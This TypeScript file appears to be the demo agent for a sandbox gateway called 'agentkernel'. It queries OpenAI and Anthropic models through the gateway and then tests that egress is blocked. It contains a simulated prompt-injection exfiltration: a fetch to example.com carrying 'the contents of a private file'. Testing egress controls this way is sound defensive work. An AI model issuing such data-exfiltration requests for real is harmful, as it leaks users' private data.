/**
 * The agent of `agentkernel demo`. It runs inside the sandbox, with the official SDKs as they come from npm, and knows nothing of the
 * gateway: no proxy variable, no base URL, no key but the placeholder that its environment holds.
 *
 * DEMO_OPENAI_MODEL, DEMO_ANTHROPIC_MODEL: other models than the defaults. A provider without a key in the environment is left out.
 * Exit code 0: every call was answered and the exfiltration was denied.
 */
import Anthropic from "@anthropic-ai/sdk";
import OpenAI from "openai";

const QUESTION = "In one short sentence: what is a sandbox?";

function print(line: string): void {
  process.stdout.write(`${line}\n`);
}

function show(what: string, answer: string, usage: string): void {
  print(`  ${what}`);
  print(`    answer  ${answer.replaceAll(/\s+/g, " ").trim()}`);
  print(`    usage   ${usage}`);
}

function keyLine(name: string): string {
  const value = process.env[name] ?? "";
  return `${name} in here is ${value.length > 28 ? `${value.slice(0, 28)}…` : value} (a placeholder; the gateway puts the real key in)`;
}

/** Reads a stream to its end and tells how it arrived. */
async function arrived<T>(stream: AsyncIterable<T>, take: (chunk: T) => void): Promise<string> {
  const startedAt = performance.now();
  let count = 0;
  let firstMs = 0;
  for await (const chunk of stream) {
    count += 1;
    if (count === 1) firstMs = performance.now() - startedAt;
    take(chunk);
  }
  return `${count} chunks over ${Math.round(performance.now() - startedAt - firstMs)} ms`;
}

async function askOpenAi(): Promise<void> {
  const client = new OpenAI();
  const model = process.env["DEMO_OPENAI_MODEL"] ?? "gpt-5-mini";
  const messages = [{ role: "user" as const, content: QUESTION }];
  print(`openai SDK → ${client.baseURL}`);
  print(`  ${keyLine("OPENAI_API_KEY")}`);

  const chat = await client.chat.completions.create({ model, messages });
  const usage = chat.usage;
  show(`chat, ${model}`, chat.choices[0]?.message.content ?? "", `${usage?.prompt_tokens} in, ${usage?.completion_tokens} out`);

  let streamed = "";
  const stream = await client.chat.completions.create({ model, messages, stream: true });
  const how = await arrived(stream, (chunk) => (streamed += chunk.choices[0]?.delta.content ?? ""));
  show(`chat, ${model}, streaming, ${how}`, streamed, "not asked for by this client; the gateway meters it all the same");

  let said = "";
  let total = "";
  const responses = await client.responses.create({ model, input: QUESTION, stream: true });
  const arrival = await arrived(responses, (event) => {
    if (event.type === "response.output_text.delta") said += event.delta;
    if (event.type === "response.completed") total = `${event.response.usage?.input_tokens} in, ${event.response.usage?.output_tokens} out`;
  });
  show(`responses, ${model}, streaming, ${arrival}`, said, total);
}

async function askAnthropic(): Promise<void> {
  const client = new Anthropic();
  const model = process.env["DEMO_ANTHROPIC_MODEL"] ?? "claude-haiku-4-5";
  const messages = [{ role: "user" as const, content: QUESTION }];
  print(`@anthropic-ai/sdk → ${client.baseURL}`);
  print(`  ${keyLine("ANTHROPIC_API_KEY")}`);

  const message = await client.messages.create({ model, max_tokens: 200, messages });
  const text = message.content.map((block) => (block.type === "text" ? block.text : "")).join("");
  show(`messages, ${model}`, text, `${message.usage.input_tokens} in, ${message.usage.output_tokens} out`);

  const stream = client.messages.stream({ model, max_tokens: 200, messages });
  const how = await arrived(stream, () => undefined);
  const { usage } = await stream.finalMessage();
  show(`messages, ${model}, streaming, ${how}`, await stream.finalText(), `${usage.input_tokens} in, ${usage.output_tokens} out`);
}

/** What a prompt injection would try. Nothing secret is in here; what counts is that it does not get out. */
async function tryToExfiltrate(): Promise<boolean> {
  const url = "https://example.com/?data=the+contents+of+a+private+file";
  print(`exfiltration attempt → ${url}`);
  let response: Response;
  try {
    response = await fetch(url, { signal: AbortSignal.timeout(20_000) });
  } catch (error) {
    const cause = error instanceof Error && error.cause instanceof Error ? error.cause.message : String(error);
    print(`  refused: ${cause}`);
    return true;
  }
  print(`  ${response.status} ${(await response.text()).trim()}`);
  return response.status === 403;
}

let failed = false;
const tasks = [
  { key: "OPENAI_API_KEY", run: askOpenAi },
  { key: "ANTHROPIC_API_KEY", run: askAnthropic },
];
for (const { key, run } of tasks) {
  if (process.env[key] === undefined) continue;
  try {
    await run();
  } catch (error) {
    failed = true;
    print(`  failed: ${error instanceof Error ? error.message : String(error)}`);
  }
  print("");
}
if (!(await tryToExfiltrate())) {
  failed = true;
  print("  that got out, which it must not");
}
process.exitCode = failed ? 1 : 0;
